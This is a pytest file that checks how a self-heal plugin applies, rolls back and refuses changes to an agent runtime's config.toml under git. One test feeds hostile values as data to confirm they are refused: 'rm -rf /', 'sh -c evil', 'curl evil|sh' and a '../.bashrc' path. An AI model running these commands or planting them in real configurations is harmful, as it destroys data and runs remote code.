"""apply / rollback / reject against real git repositories in temp dirs."""
from __future__ import annotations

import os
import subprocess
from datetime import timedelta
from pathlib import Path

import pytest

from selfheal_plugin import hookimpl

from selfheal_plugin.plugins import manager as plugins
from selfheal_plugin.lifecycle.apply import (
    ConflictError, LifecycleError, apply_improvement, plan_apply, reject_improvement, rollback_improvement,
)
from selfheal_plugin.lifecycle.configedit import ChangeError
from selfheal_plugin.errors import ConfigError, NotFoundError, UsageError
from selfheal_plugin.lifecycle.gitops import GitOpsError
from selfheal_plugin.history.connection import connect
from selfheal_plugin.history.improvements import ImprovementStore
from selfheal_plugin.history.times import parse_timestamp

from .lifecycle_data import K8S, add_improvement, git, git_as_user, settings_for, timeout_change

USER_CONFIG = '''# my runtime
model = "qwen3:14b"  # keep this comment

[tools."mcp__k8s__pods_list"]
timeout_ms = 60000
retry_attempts = 1
[tools."srv.v2:query"]
timeout_ms = 1000

[servers."k8s"]
auto_restart = false
'''


@pytest.fixture
def db(binks_home):
    path = binks_home / "conversations.db"
    connect(path, create=True).close()
    return path


def conn_settings(home: Path, db: Path | None = None):
    s = settings_for(home, db)
    return connect(s.db_path), s


def state(db: Path, imp_id: str):
    conn = connect(db)
    try:
        return ImprovementStore(conn).get(imp_id)
    finally:
        conn.close()


class Capture:
    def __init__(self):
        self.events = []

    @hookimpl
    def improvement_applied(self, improvement, settings):
        self.events.append(("applied", improvement.id, improvement.commit_sha))

    @hookimpl
    def improvement_rolled_back(self, improvement, settings):
        self.events.append(("rolled_back", improvement.id, improvement.rollback_sha))


@pytest.fixture
def captured():
    cap = Capture()
    plugins.register(cap, "test-capture")
    try:
        yield cap.events
    finally:
        plugins.unregister(cap)


# ------------------------------------------------------------------ fresh home


def test_fresh_home_gets_a_repository_and_a_commit(binks_home, db, captured):
    imp = add_improvement(db, [timeout_change(90000)])
    conn, s = conn_settings(binks_home)
    r = apply_improvement(conn, s, imp.id)

    cfg = binks_home / "config.toml"
    assert cfg.read_text() == '[tools.mcp__k8s__pods_list]\ntimeout_ms = 90000\n'
    assert (binks_home / ".git").is_dir() and r["created_repository"] is True
    assert sorted(git(binks_home, "ls-files").split()) == [".gitignore", "config.toml"]
    assert git(binks_home, "status", "--porcelain") == ""  # the database and its lock stay out
    head = git(binks_home, "rev-parse", "HEAD").strip()
    assert r["commit_sha"] == head
    assert git(binks_home, "show", "--name-only", "--format=", "HEAD").split() == ["config.toml"]
    msg = git(binks_home, "log", "-1", "--format=%B")
    assert f"Self-Heal-Improvement: {imp.id}" in msg and f"Self-Heal-Pattern: timeout:{K8S}" in msg
    assert "tools.mcp__k8s__pods_list.timeout_ms: (absent) → 90000" in msg  # what
    assert f"Recurring failure pattern timeout:{K8S}" in msg  # why
    assert git(binks_home, "log", "-1", "--format=%an <%ae>|%cn <%ce>").strip() == \
        "selfheal <selfheal@localhost>|selfheal <selfheal@localhost>"

    row = state(db, imp.id)
    assert (row.status, row.commit_sha, row.pending_op) == ("applied", head, None)
    assert parse_timestamp(row.verification_scheduled) - parse_timestamp(row.applied_at) == timedelta(days=7)
    assert r["verification_scheduled"] == row.verification_scheduled and r["status"] == "applied"
    assert "timeout_ms: (absent) → 90000" in row.changes_made
    assert row.apply_record["entries"][0]["existed"] is False
    assert captured == [("applied", imp.id, head)]


def test_no_git_identity_is_needed(binks_home, db):
    assert subprocess.run(["git", "config", "user.email"], capture_output=True).returncode != 0
    imp = add_improvement(db, [timeout_change()])
    conn, s = conn_settings(binks_home)
    apply_improvement(conn, s, imp.id)
    rollback_improvement(conn, s, imp.id)  # git revert needs an identity too
    assert state(db, imp.id).status == "rolled_back"


def test_existing_config_is_committed_as_it_was_then_changed_in_place(binks_home, db):
    cfg = binks_home / "config.toml"
    cfg.write_text(USER_CONFIG)
    imp = add_improvement(db, [timeout_change(90000)])
    conn, s = conn_settings(binks_home)
    apply_improvement(conn, s, imp.id)
    assert git(binks_home, "show", "HEAD~1:config.toml") == USER_CONFIG
    assert cfg.read_text() == USER_CONFIG.replace("timeout_ms = 60000", "timeout_ms = 90000")
    diff = git(binks_home, "diff", "HEAD~1", "HEAD", "--unified=0")
    assert [ln for ln in diff.splitlines() if ln[:1] in "+-" and not ln.startswith(("+++", "---"))] == [
        "-timeout_ms = 60000", "+timeout_ms = 90000"]


def test_missing_home_directory_and_config_are_created(tmp_path):
    home = tmp_path / "elsewhere" / "binks"
    db = tmp_path / "history.db"
    connect(db, create=True).close()
    imp = add_improvement(db, [timeout_change()])
    conn, s = conn_settings(home, db)
    apply_improvement(conn, s, imp.id)
    assert (home / "config.toml").exists() and (home / ".git").is_dir()


# ------------------------------------------------------------------ existing repositories


def dotfiles(tmp_path: Path, config: str = USER_CONFIG) -> Path:
    repo = tmp_path / "dotfiles"
    (repo / "binks").mkdir(parents=True)
    git(repo, "init", "-q")
    (repo / "binks" / "config.toml").write_text(config)
    (repo / "zshrc").write_text("export A=1\n")
    (repo / ".gitignore").write_text("*.db\n*.lock\n")
    git(repo, "add", ".")
    git_as_user(repo, "commit", "-q", "-m", "dotfiles")
    return repo


def test_dotfiles_repository_is_used_and_other_staged_work_is_left_alone(tmp_path):
    repo = dotfiles(tmp_path)
    home = repo / "binks"
    db = home / "conversations.db"
    connect(db, create=True).close()
    (repo / "zshrc").write_text("export A=2\n")
    git(repo, "add", "zshrc")  # the user's own staged, uncommitted work
    imp = add_improvement(db, [timeout_change(90000)])
    conn, s = conn_settings(home)
    r = apply_improvement(conn, s, imp.id)
    assert not (home / ".git").exists() and r["repository"] == str(repo.resolve())
    assert git(repo, "show", "--name-only", "--format=", "HEAD").split() == ["binks/config.toml"]
    assert git(repo, "status", "--porcelain").splitlines() == ["M  zshrc"]
    assert git(repo, "log", "-1", "--format=%an").strip() == "selfheal"
    rollback_improvement(conn, s, imp.id)
    assert (home / "config.toml").read_text() == USER_CONFIG
    assert git(repo, "status", "--porcelain").splitlines() == ["M  zshrc"]


def test_symlinked_config_is_edited_and_committed_where_it_lives(tmp_path, binks_home, db):
    repo = dotfiles(tmp_path)
    link = binks_home / "config.toml"
    link.symlink_to(repo / "binks" / "config.toml")
    imp = add_improvement(db, [timeout_change(90000)])
    conn, s = conn_settings(binks_home)
    apply_improvement(conn, s, imp.id)
    assert link.is_symlink()
    assert (repo / "binks" / "config.toml").read_text() == USER_CONFIG.replace("60000", "90000")
    assert f"Self-Heal-Improvement: {imp.id}" in git(repo, "log", "-1", "--format=%B")
    assert not (binks_home / ".git").exists()


def test_config_ignored_by_its_repository_is_refused(tmp_path):
    repo = dotfiles(tmp_path)
    (repo / ".gitignore").write_text("*.db\n*.lock\nbinks/\n")
    git(repo, "rm", "-q", "-r", "--cached", "binks")
    git_as_user(repo, "commit", "-q", "-am", "ignore binks")
    home = repo / "binks"
    db = home / "conversations.db"
    connect(db, create=True).close()
    imp = add_improvement(db, [timeout_change()])
    conn, s = conn_settings(home)
    with pytest.raises(GitOpsError, match="ignored by the git repository"):
        apply_improvement(conn, s, imp.id)


# ------------------------------------------------------------------ refusals change nothing


def assert_nothing_changed(home_or_repo: Path, cfg: Path, before: bytes | None, head: str | None, db: Path,
                           imp_id: str):
    assert (cfg.read_bytes() if cfg.exists() else None) == before
    if head is not None:
        assert git(home_or_repo, "rev-parse", "HEAD").strip() == head
    row = state(db, imp_id)
    assert (row.status, row.pending_op, row.commit_sha) == ("proposed", None, None)


def test_uncommitted_user_edit_is_refused(tmp_path):
    repo = dotfiles(tmp_path)
    home = repo / "binks"
    db = home / "conversations.db"
    connect(db, create=True).close()
    cfg = home / "config.toml"
    cfg.write_text(USER_CONFIG + "# my edit\n")
    head = git(repo, "rev-parse", "HEAD").strip()
    imp = add_improvement(db, [timeout_change()])
    conn, s = conn_settings(home)
    with pytest.raises(GitOpsError, match="has uncommitted changes .*commit or discard them first"):
        apply_improvement(conn, s, imp.id)
    with pytest.raises(GitOpsError, match="uncommitted changes"):
        plan_apply(conn, s, imp.id)
    assert_nothing_changed(repo, cfg, (USER_CONFIG + "# my edit\n").encode(), head, db, imp.id)
    git(repo, "add", "binks/config.toml")  # staged is still uncommitted
    with pytest.raises(GitOpsError, match="uncommitted changes"):
        apply_improvement(conn, s, imp.id)


def test_untracked_config_with_content_in_existing_repo_is_refused(tmp_path):
    repo = tmp_path / "dotfiles"
    home = repo / "binks"
    home.mkdir(parents=True)
    git(repo, "init", "-q")
    (repo / ".gitignore").write_text("*.db\n*.lock\n")
    git(repo, "add", ".gitignore")
    git_as_user(repo, "commit", "-q", "-m", "init")
    cfg = home / "config.toml"
    cfg.write_text(USER_CONFIG)
    db = home / "conversations.db"
    connect(db, create=True).close()
    head = git(repo, "rev-parse", "HEAD").strip()
    imp = add_improvement(db, [timeout_change()])
    conn, s = conn_settings(home)
    with pytest.raises(GitOpsError, match="is not committed in the git repository"):
        apply_improvement(conn, s, imp.id)
    assert_nothing_changed(repo, cfg, USER_CONFIG.encode(), head, db, imp.id)


def test_missing_config_in_existing_repo_is_created_and_committed(tmp_path):
    repo = tmp_path / "dotfiles"
    home = repo / "binks"
    home.mkdir(parents=True)
    git(repo, "init", "-q")
    (repo / ".gitignore").write_text("*.db\n*.lock\n")
    git(repo, "add", ".gitignore")
    git_as_user(repo, "commit", "-q", "-m", "init")
    db = home / "conversations.db"
    connect(db, create=True).close()
    imp = add_improvement(db, [timeout_change()])
    conn, s = conn_settings(home)
    apply_improvement(conn, s, imp.id)
    assert git(repo, "show", "--name-status", "--format=", "HEAD").split() == ["A", "binks/config.toml"]
    rollback_improvement(conn, s, imp.id)  # the revert removes the file it created
    assert not (home / "config.toml").exists() and git(repo, "status", "--porcelain") == ""


def test_unparsable_config_is_refused_before_anything_happens(binks_home, db):
    imp = add_improvement(db, [timeout_change()])
    conn, s = conn_settings(binks_home)  # (loading settings refuses such a file too)
    cfg = binks_home / "config.toml"
    cfg.write_text("[tools\ntimeout_ms = \n")
    with pytest.raises(ConfigError, match="not valid TOML.*nothing was changed"):
        apply_improvement(conn, s, imp.id)
    assert not (binks_home / ".git").exists()
    assert_nothing_changed(binks_home, cfg, b"[tools\ntimeout_ms = \n", None, db, imp.id)


@pytest.mark.parametrize("bad", ['"abc"', "-5", "true", '"90.5"', "90000.5"])
def test_a_tool_value_the_runtime_refuses_is_refused_not_replaced(binks_home, db, bad):
    """apply would overwrite the person's broken timeout_ms (or leave a file ToolPolicy does not
    load): one line naming the file, table and key, and nothing changed."""
    imp = add_improvement(db, [timeout_change()])
    conn, s = conn_settings(binks_home)
    cfg = binks_home / "config.toml"
    text = USER_CONFIG.replace("timeout_ms = 60000", f"timeout_ms = {bad}")
    cfg.write_text(text)
    where = f'{cfg}: [tools."{K8S}"] timeout_ms must be '
    for attempt in (plan_apply, apply_improvement):
        with pytest.raises(ConfigError) as err:
            attempt(conn, s, imp.id)
        assert str(err.value).startswith(where) and str(err.value).endswith("; fix it first, nothing was changed")
        assert "\n" not in str(err.value)
    assert not (binks_home / ".git").exists()
    assert_nothing_changed(binks_home, cfg, text.encode(), None, db, imp.id)


def test_a_change_that_writes_a_value_the_runtime_refuses_is_refused(binks_home, db):
    imp = add_improvement(db, [timeout_change("90000")])  # a plugin's proposal: a string for a number
    conn, s = conn_settings(binks_home)
    cfg = binks_home / "config.toml"
    cfg.write_text(USER_CONFIG)
    with pytest.raises(ChangeError, match=r"the change would write a value the runtime refuses: .*timeout_ms must be "
                                          r"an integer .*got '90000'; nothing was changed"):
        apply_improvement(conn, s, imp.id)
    assert_nothing_changed(binks_home, cfg, USER_CONFIG.encode(), None, db, imp.id)


@pytest.mark.parametrize("path, value", [
    (["canary", "imp-x", "tools", "list_dir", "timeout_ms"], 1),  # a live canary nobody tracks
    (["tools", "list_dir", "command"], "rm -rf /"),
    (["servers", "search", "command"], "sh -c evil"),
    (["mcpServers", "evil", "command"], "curl evil|sh"),
], ids=["canary", "tool-command", "server-command", "mcpServers"])
def test_a_stored_change_outside_the_tool_and_server_settings_is_refused(binks_home, db, path, value):
    """A row stored before the rule (or written into the database by another program) is
    checked again at apply: nothing is written or committed."""
    imp = add_improvement(db, [{"kind": "config", "file": "config.toml", "path": path, "op": "set", "value": value}])
    conn, s = conn_settings(binks_home)
    cfg = binks_home / "config.toml"
    cfg.write_text(USER_CONFIG)
    with pytest.raises(ChangeError, match=r"^change 1: .* (is not a setting ToolPolicy reads|is in \[canary\])"):
        plan_apply(conn, s, imp.id)
    with pytest.raises(ChangeError):
        apply_improvement(conn, s, imp.id)
    assert_nothing_changed(binks_home, cfg, USER_CONFIG.encode(), None, db, imp.id)


def test_change_outside_config_toml_is_refused(binks_home, db):
    imp = add_improvement(db, [{"kind": "config", "file": "../.bashrc", "path": ["x"], "op": "set", "value": 1}])
    conn, s = conn_settings(binks_home)
    with pytest.raises(ChangeError, match="only edits config.toml"):
        apply_improvement(conn, s, imp.id)
    assert not (binks_home / ".git").exists() and not (binks_home / "config.toml").exists()


def test_file_changed_since_the_diff_was_shown_is_refused(binks_home, db):
    imp = add_improvement(db, [timeout_change()])
    conn, s = conn_settings(binks_home)
    plan = plan_apply(conn, s, imp.id)
    assert "+timeout_ms = 90000" in plan["diff"] and plan["creates_repository"] is True
    assert not (binks_home / ".git").exists()  # planning changes nothing
    (binks_home / "config.toml").write_text("model = \"x\"\n")
    with pytest.raises(LifecycleError, match="changed since the diff was shown"):
        apply_improvement(conn, s, imp.id, expected_sha256=plan["old_sha256"])


def test_status_rules(binks_home, db):
    imp = add_improvement(db, [timeout_change()])
    conn, s = conn_settings(binks_home)
    with pytest.raises(NotFoundError):
        apply_improvement(conn, s, "imp-nope")
    with pytest.raises(LifecycleError, match="only applied or verified"):
        rollback_improvement(conn, s, imp.id)
    apply_improvement(conn, s, imp.id)
    with pytest.raises(LifecycleError, match="is applied; only proposed or tested"):
        apply_improvement(conn, s, imp.id)
    with pytest.raises(LifecycleError, match="only proposed or tested improvements can be rejected"):
        reject_improvement(conn, s, imp.id)
    other = add_improvement(db, [timeout_change(70000)], pattern_id="timeout:other")
    assert reject_improvement(conn, s, other.id)["status"] == "rejected"
    with pytest.raises(LifecycleError, match="is rejected"):
        apply_improvement(conn, s, other.id)


def test_value_already_in_place_is_refused(binks_home, db):
    (binks_home / "config.toml").write_text(USER_CONFIG)
    imp = add_improvement(db, [timeout_change(60000)])
    conn, s = conn_settings(binks_home)
    with pytest.raises(LifecycleError, match="already holds these values"):
        apply_improvement(conn, s, imp.id)


# ------------------------------------------------------------------ manual steps


def test_manual_only_improvement_records_what_was_done(binks_home, db, captured):
    imp = add_improvement(db, [{"kind": "manual", "text": "Grant the agent read access to /srv/data"}],
                          pattern_id="permission_denied:read_file")
    conn, s = conn_settings(binks_home)
    with pytest.raises(UsageError, match="only manual steps.*--changes-made"):
        apply_improvement(conn, s, imp.id)
    r = apply_improvement(conn, s, imp.id, changes_made="chmod o+r /srv/data")
    row = state(db, imp.id)
    assert (row.status, row.changes_made, row.commit_sha) == ("applied", "chmod o+r /srv/data", None)
    assert r["verification_scheduled"] and not (binks_home / ".git").exists()
    assert captured == [("applied", imp.id, None)]
    out = rollback_improvement(conn, s, imp.id)
    assert out["method"] == "manual" and "by hand" in out["note"]


# ------------------------------------------------------------------ rollback


def test_rollback_by_revert_restores_the_bytes(binks_home, db, captured):
    cfg = binks_home / "config.toml"
    cfg.write_text(USER_CONFIG)
    imp = add_improvement(db, [timeout_change(90000),
                               {"kind": "config", "path": ["tools", "srv.v2:query", "retry_attempts"], "value": 2}])
    conn, s = conn_settings(binks_home)
    applied = apply_improvement(conn, s, imp.id)
    r = rollback_improvement(conn, s, imp.id, reason="verification: significantly worse")
    assert r["method"] == "revert"
    assert cfg.read_text() == USER_CONFIG
    msg = git(binks_home, "log", "-1", "--format=%B")
    assert f"Self-Heal-Improvement: {imp.id}" in msg and "Self-Heal-Action: rollback" in msg
    assert "verification: significantly worse" in msg
    assert git(binks_home, "rev-parse", "HEAD").strip() == r["rollback_sha"]
    assert git(binks_home, "status", "--porcelain") == "" and not (binks_home / ".git" / "REVERT_HEAD").exists()
    row = state(db, imp.id)
    assert (row.status, row.rollback_sha, row.commit_sha) == ("rolled_back", r["rollback_sha"], applied["commit_sha"])
    assert row.rolled_back_at
    assert captured[-1] == ("rolled_back", imp.id, r["rollback_sha"])
    with pytest.raises(LifecycleError, match="is rolled_back"):
        rollback_improvement(conn, s, imp.id)


def test_rollback_after_later_commits_uses_the_inverse_edit(binks_home, db):
    cfg = binks_home / "config.toml"
    cfg.write_text(USER_CONFIG)
    imp = add_improvement(db, [timeout_change(90000),
                               {"kind": "config", "path": ["tools", "new:tool", "retry_attempts"], "value": 2}])
    conn, s = conn_settings(binks_home)
    apply_improvement(conn, s, imp.id)
    edited = cfg.read_text().replace('model = "qwen3:14b"', 'model = "llama3:8b"')
    cfg.write_text(edited)
    git_as_user(binks_home, "commit", "-q", "-am", "switch model")
    r = rollback_improvement(conn, s, imp.id)
    assert r["method"] == "inverse-edit"
    assert cfg.read_text() == USER_CONFIG.replace('model = "qwen3:14b"', 'model = "llama3:8b"')
    assert git(binks_home, "status", "--porcelain") == ""
    assert state(db, imp.id).status == "rolled_back"


def test_later_user_edit_of_the_same_key_is_reported_not_overwritten(binks_home, db):
    cfg = binks_home / "config.toml"
    cfg.write_text(USER_CONFIG)
    imp = add_improvement(db, [timeout_change(90000)])
    conn, s = conn_settings(binks_home)
    apply_improvement(conn, s, imp.id)
    cfg.write_text(cfg.read_text().replace("timeout_ms = 90000", "timeout_ms = 120000"))
    git_as_user(binks_home, "commit", "-q", "-am", "even longer")
    head, text = git(binks_home, "rev-parse", "HEAD"), cfg.read_text()
    with pytest.raises(ConflictError, match=r"timeout_ms is now 120000 \(selfheal set 90000\).*Not overwriting"):
        rollback_improvement(conn, s, imp.id)
    assert (git(binks_home, "rev-parse", "HEAD"), cfg.read_text()) == (head, text)
    row = state(db, imp.id)
    assert (row.status, row.pending_op) == ("applied", None)


def test_rollback_refuses_uncommitted_edits(binks_home, db):
    imp = add_improvement(db, [timeout_change(90000)])
    conn, s = conn_settings(binks_home)
    apply_improvement(conn, s, imp.id)
    cfg = binks_home / "config.toml"
    cfg.write_text(cfg.read_text() + "# note\n")
    with pytest.raises(GitOpsError, match="uncommitted changes"):
        rollback_improvement(conn, s, imp.id)
    assert cfg.read_text().endswith("# note\n") and state(db, imp.id).status == "applied"


def test_lock_is_released_after_a_refusal(binks_home, db):
    """A refused apply must not leave the lock held (the next command would wait)."""
    imp = add_improvement(db, [timeout_change()])
    conn, s = conn_settings(binks_home)
    (binks_home / "config.toml").write_text("[x\n")
    with pytest.raises(ConfigError):
        apply_improvement(conn, s, imp.id)
    (binks_home / "config.toml").unlink()
    apply_improvement(conn, s, imp.id)
    assert (binks_home / "selfheal" / "locks" / "apply.lock").exists()


# ------------------------------------------------------------------ line endings

CRLF_CONFIG = (b'# c\r\nmodel = "x"  # keep\r\n\r\n[tools."mcp__k8s__pods_list"]\r\nretry_attempts = 2\r\n'
               b'\r\n[servers."k8s"]\r\nauto_restart = false\r\n')


def changed_lines(home: Path, rev: str = "HEAD") -> list[str]:
    """The -/+ lines of the config in one commit, exactly as git stores them."""
    out = subprocess.run(["git", "show", "--format=", rev, "--", "config.toml"], cwd=home, capture_output=True,
                         check=True).stdout.decode()
    return [ln for ln in out.split("\n") if ln[:1] in ("+", "-") and not ln.startswith(("+++", "---"))]


def test_a_crlf_config_changes_only_the_changed_keys_line_and_rolls_back_byte_for_byte(binks_home, db):
    cfg = binks_home / "config.toml"
    cfg.write_bytes(CRLF_CONFIG)
    imp = add_improvement(db, [{"kind": "config", "path": ["tools", K8S, "retry_attempts"], "value": 3}])
    conn, s = conn_settings(binks_home)
    plan = plan_apply(conn, s, imp.id)
    apply_improvement(conn, s, imp.id, expected_sha256=plan["old_sha256"])
    assert cfg.read_bytes() == CRLF_CONFIG.replace(b"retry_attempts = 2", b"retry_attempts = 3")
    assert changed_lines(binks_home) == ["-retry_attempts = 2\r", "+retry_attempts = 3\r"]
    rollback_improvement(conn, s, imp.id)
    assert cfg.read_bytes() == CRLF_CONFIG


def test_a_crlf_config_gets_crlf_new_lines_and_the_inverse_edit_restores_its_bytes(binks_home, db):
    cfg = binks_home / "config.toml"
    cfg.write_bytes(CRLF_CONFIG)
    imp = add_improvement(db, [timeout_change(90000),
                               {"kind": "config", "path": ["tools", "new:tool", "retry_attempts"], "value": 2}])
    conn, s = conn_settings(binks_home)
    apply_improvement(conn, s, imp.id)
    after = cfg.read_bytes()
    assert b"timeout_ms = 90000\r\n" in after and b'[tools."new:tool"]\r\nretry_attempts = 2\r\n' in after
    assert after.count(b"\n") == after.count(b"\r\n")  # no bare LF anywhere
    added = changed_lines(binks_home)
    assert added and all(ln.startswith("+") and ln.endswith("\r") for ln in added)  # only additions, CRLF
    cfg.write_bytes(after.replace(b'model = "x"', b'model = "y"'))  # a later commit: rollback by inverse edit
    git_as_user(binks_home, "commit", "-q", "-am", "switch model")
    r = rollback_improvement(conn, s, imp.id)
    assert r["method"] == "inverse-edit"
    assert cfg.read_bytes() == CRLF_CONFIG.replace(b'model = "x"', b'model = "y"')


# ------------------------------------------------------------------ a git step that fails


def lock_index(repo: Path) -> Path:
    """What another git process (an editor's commit, a crashed git) leaves behind."""
    lock = repo / ".git" / "index.lock"
    lock.write_text("")
    return lock


def test_a_failed_commit_is_undone_at_once_with_gits_reason(tmp_path, captured):
    repo = dotfiles(tmp_path)
    home = repo / "binks"
    db = home / "conversations.db"
    connect(db, create=True).close()
    cfg = home / "config.toml"
    head = git(repo, "rev-parse", "HEAD").strip()
    imp = add_improvement(db, [timeout_change(90000)])
    conn, s = conn_settings(home)
    lock = lock_index(repo)
    with pytest.raises(LifecycleError) as info:
        apply_improvement(conn, s, imp.id)
    msg = str(info.value)
    assert "\n" not in msg and not msg.endswith("'")
    assert f"apply of {imp.id} failed: git add failed in {repo.resolve()}: Unable to create " in msg
    assert "index.lock': File exists" in msg and "nothing was changed" in msg
    # no later command needed: config, git and the database agree right away
    assert_nothing_changed(repo, cfg, USER_CONFIG.encode(), head, db, imp.id)
    assert captured == []
    lock.unlink()
    assert git(repo, "status", "--porcelain") == ""
    apply_improvement(conn, s, imp.id)  # works once the other git is done
    assert state(db, imp.id).status == "applied"


def test_a_failed_rollback_commit_is_undone_at_once(tmp_path):
    repo = dotfiles(tmp_path)
    home = repo / "binks"
    db = home / "conversations.db"
    connect(db, create=True).close()
    cfg = home / "config.toml"
    imp = add_improvement(db, [timeout_change(90000)])
    conn, s = conn_settings(home)
    apply_improvement(conn, s, imp.id)
    head, applied_bytes = git(repo, "rev-parse", "HEAD").strip(), cfg.read_bytes()
    lock = lock_index(repo)
    with pytest.raises(LifecycleError, match=r"rollback of .* failed: git revert failed .*index\.lock': File exists"):
        rollback_improvement(conn, s, imp.id)
    assert (cfg.read_bytes(), git(repo, "rev-parse", "HEAD").strip()) == (applied_bytes, head)
    row = state(db, imp.id)
    assert (row.status, row.pending_op) == ("applied", None)
    # the inverse edit (the file moved on) fails the same way and is undone too
    lock.unlink()
    cfg.write_bytes(applied_bytes.replace(b"# my runtime", b"# my agent runtime"))
    git_as_user(repo, "commit", "-q", "-am", "comment")
    head, edited = git(repo, "rev-parse", "HEAD").strip(), cfg.read_bytes()
    lock_index(repo)
    with pytest.raises(LifecycleError, match=r"rollback of .* failed: git add failed .*File exists.*nothing was"):
        rollback_improvement(conn, s, imp.id)
    assert (cfg.read_bytes(), git(repo, "rev-parse", "HEAD").strip()) == (edited, head)
    assert (state(db, imp.id).status, state(db, imp.id).pending_op) == ("applied", None)


# ------------------------------------------------------------------ lock files


def test_lock_files_never_show_up_in_a_users_repository(tmp_path):
    repo = tmp_path / "dotfiles"
    home = repo / "binks"
    home.mkdir(parents=True)
    git(repo, "init", "-q")
    (home / "config.toml").write_text(USER_CONFIG)
    (repo / ".gitignore").write_text("*.db\n")  # nothing about lock files
    git(repo, "add", ".")
    git_as_user(repo, "commit", "-q", "-m", "dotfiles")
    db = home / "conversations.db"
    connect(db, create=True).close()
    imp = add_improvement(db, [timeout_change(90000)])
    conn, s = conn_settings(home)
    apply_improvement(conn, s, imp.id)
    assert (home / "selfheal" / "locks" / "apply.lock").exists()
    assert git(repo, "status", "--porcelain", "--untracked-files=all") == ""
    assert (repo / ".gitignore").read_text() == "*.db\n"  # the user's file is not touched
    assert git(repo, "show", "--name-only", "--format=", "HEAD").split() == ["binks/config.toml"]
    rollback_improvement(conn, s, imp.id)
    assert git(repo, "status", "--porcelain", "--untracked-files=all") == ""


# ------------------------------------------------------------------ what apply's result warns about

UNDONE = {"improvement_id": "imp-20261101-0000aaaa", "status": "rolled_back",
          "note": "a fix with the same changes (imp-20261101-0000aaaa) was rolled back on 2026-11-01"}


def test_apply_result_carries_its_test_and_the_same_change_undone(binks_home, db):
    """The warnings the CLI's prompt shows come back in apply's result, for --json and MCP:
    an apply with no test, or a risky one, and a fix whose same change was rolled back."""
    untested = add_improvement(db, [timeout_change(90000)], evidence={"same_change_undone": UNDONE})
    conn, s = conn_settings(binks_home)
    r = apply_improvement(conn, s, untested.id)
    assert r["test"] is None and r["same_change_undone"] == UNDONE
    assert r["warnings"] == [f"Not tested: agent self-heal test {untested.id} predicts its effect from history",
                             f"Note: {UNDONE['note']}"]
    assert plan_apply(conn, s, add_improvement(db, [timeout_change(95000, "other")]).id)["warnings"][0] \
        .startswith("Not tested:")  # the prompt's plan says the same lines
    risky = add_improvement(db, [timeout_change(95000, "srv__x")], status="tested", pattern_id="timeout:srv__x",
                            test_result={"recommendation": "risky", "reason": "the interval includes a loss"})
    r = apply_improvement(conn, s, risky.id)
    assert r["test"] == {"recommendation": "risky", "reason": "the interval includes a loss"}
    assert r["warnings"] == ["Its test said: risky — the interval includes a loss"]
    safe = add_improvement(db, [timeout_change(95000, "srv__y")], status="tested", pattern_id="timeout:srv__y",
                           test_result={"recommendation": "safe_to_apply", "reason": "gain"})
    r = apply_improvement(conn, s, safe.id)
    assert (r["warnings"], r["test_note"]) == ([], "Its test said: safe_to_apply — gain")


def test_apply_yes_prints_the_results_warnings_and_json_carries_them(binks_home, db):
    from click.testing import CliRunner

    from selfheal_plugin.cli.main import agent

    imp = add_improvement(db, [timeout_change(90000)], evidence={"same_change_undone": UNDONE})
    out = CliRunner().invoke(agent, ["self-heal", "apply", imp.id, "--yes", "--home", str(binks_home)],
                             env={"COLUMNS": "200"}, catch_exceptions=False)
    assert out.exit_code == 0, out.output
    assert f"  ⚠ Not tested: agent self-heal test {imp.id} predicts" in out.output
    assert f"  ⚠ Note: {UNDONE['note']}" in out.output
    other = add_improvement(db, [timeout_change(95000, "srv__x")], pattern_id="timeout:srv__x",
                            evidence={"same_change_undone": UNDONE})
    out = CliRunner().invoke(agent, ["self-heal", "apply", other.id, "--yes", "--json", "--home", str(binks_home)],
                             catch_exceptions=False)
    import json
    data = json.loads(out.output)
    assert data["same_change_undone"] == UNDONE and data["test"] is None and len(data["warnings"]) == 2
